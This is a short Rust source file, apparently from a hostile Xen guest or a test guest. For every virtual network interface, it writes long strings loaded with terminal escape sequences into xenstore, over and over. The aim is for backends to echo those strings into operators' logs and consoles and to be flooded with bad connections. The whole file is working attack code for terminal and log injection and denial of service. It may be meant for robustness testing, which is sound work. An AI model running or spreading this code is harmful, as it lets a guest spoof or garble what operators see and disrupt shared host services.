//! Words of the guest's own wherever an operator may see them: nodes that a backend quotes when it refuses them,
//! over and over, and its console.

use alloc::format;
use alloc::string::String;

use oxen_domu_lib::store::Store;
use oxen_domu_lib::{println, task, time};

/// What steers a terminal: a title, a line that is wiped, a prompt that is none.
const ESCAPES: &str = "\x1b]0;owned\x07\x1b[2K\rowned# \u{9b}2J\x08\x0b";
/// How long a backend may take to answer, in nanoseconds.
const PATIENCE: u64 = time::SECOND;

/// Connects all interfaces wrongly again and again until the time is over.
pub(crate) async fn flood(store: &Store, until: u64) {
    let mut interfaces = store.list("device/vif").await.unwrap_or_default();
    interfaces.sort();
    println!("{ESCAPES}");
    let mut refused = 0_u64;
    while time::now() < until && !interfaces.is_empty() {
        for id in &interfaces {
            refused += u64::from(provoke(store, &format!("device/vif/{id}")).await);
        }
        task::yield_now().await;
    }
    println!("probe: {refused} connections were refused");
}

/// One wrong connection; returns whether the backend refused it.
async fn provoke(store: &Store, front: &str) -> bool {
    let text = format!("{ESCAPES}{}", "A".repeat(1800));
    let said = [
        ("state", "1"),
        ("event-channel", &*text),
        ("tx-ring-ref", &*text),
        ("rx-ring-ref", &*text),
        ("request-rx-copy", "1"),
        ("multi-queue-num-queues", "1"),
        ("state", "3"),
    ];
    for (name, value) in said {
        if store.write(&format!("{front}/{name}"), value).await.is_err() {
            return false;
        }
    }
    let back: String = store.read(&format!("{front}/backend")).await.unwrap_or_default();
    let refused = async {
        while store.read(&format!("{back}/state")).await.is_ok_and(|state| state != "5") {
            task::yield_now().await;
        }
    };
    task::timeout(PATIENCE, refused).await.is_ok()
}
